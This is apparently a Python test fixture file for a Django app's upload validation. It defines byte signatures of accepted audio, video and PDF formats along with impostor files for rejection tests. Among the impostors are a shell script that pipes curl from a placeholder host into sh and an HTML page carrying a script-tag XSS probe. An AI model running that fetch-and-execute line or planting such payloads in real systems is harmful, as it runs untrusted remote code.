"""Files the content tests upload: real signatures of each accepted format, and impostors."""

from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 64
MOV = b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + b"\x00" * 64
M4A = b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00M4A mp42isom" + b"\x00" * 64
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm" + b"\x00" * 64
MKV = b"\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\x82\x88matroska" + b"\x00" * 64
MP3_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 64
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 64
OGG = b"OggS\x00\x02" + b"\x00" * 64
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 64
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
ADTS_AAC = b"\xff\xf1\x50\x80" + b"\x00" * 64


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def large_upload(content: bytes, name: str) -> TemporaryUploadedFile:
    """An upload as Django hands over a large one: spooled to a temporary file on disk."""
    file = TemporaryUploadedFile(name, "application/octet-stream", len(content), None)
    file.write(content)
    file.seek(0)
    return file
